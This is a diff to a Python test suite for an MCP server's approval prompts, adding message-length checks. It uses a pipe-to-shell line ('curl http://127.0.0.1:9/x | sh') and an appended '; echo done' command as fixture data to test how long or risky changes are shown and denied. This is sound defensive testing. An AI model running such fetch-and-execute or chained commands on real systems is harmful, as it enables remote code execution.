@@ -19,6 +19,7 @@ from mcp import Client, StdioServerParameters
 from mcp.shared.exceptions import MCPError
 
 from lackpy import LackpyService
+from lackpy.mcp.approvals import MESSAGE_CHARS
 from lackpy.mcp.policy import KitPolicy
 from lackpy.mcp.server import build_server
 from mcp_support import PYTHON, start_http, stop
@@ -212,7 +213,7 @@ def test_over_stdio_a_commit_names_every_file_and_its_diff_is_a_resource_away(ws
     [message] = answering.messages
     assert message.startswith("lackpy: Apply these changes? write 9 files (9 created; +3201 -0 lines)")
     assert all(f"created   a{i}.md  +400 -0" in message for i in range(8)) and "created   tools/build.sh  +1 -0" in message
-    assert "is not in this message: read it at lackpy://approvals/" in message and "curl" not in message
+    assert "is not in this message: read it at lackpy://approvals/" in message and "curl" not in message and len(message) <= MESSAGE_CHARS
     [whole] = answering.read
     assert whole.startswith(message.partition("\n\nThe diff")[0]) and "+curl http://127.0.0.1:9/x | sh" in whole and whole.count("+notes") == 3200
     assert result["error_kind"] == "denied" and not (ws / "tools").exists()
@@ -251,7 +252,7 @@ def test_a_question_read_whole_through_its_resource_goes_on_after_an_auto_wait(w
 
     answering, result = asyncio.run(main())
     [message], [whole] = answering.messages, answering.read
-    assert "This question is too long for one message" in message and "; echo done" not in message
+    assert "This question is too long for one message" in message and "; echo done" not in message and len(message) <= MESSAGE_CHARS
     assert whole == "lackpy: Make this call? run_command(command='echo " + "ab" * 5000 + "; echo done')"
     assert result["success"] and result["output"] == "done\n" and result["approvals"][0]["by"] == "timeout"
 
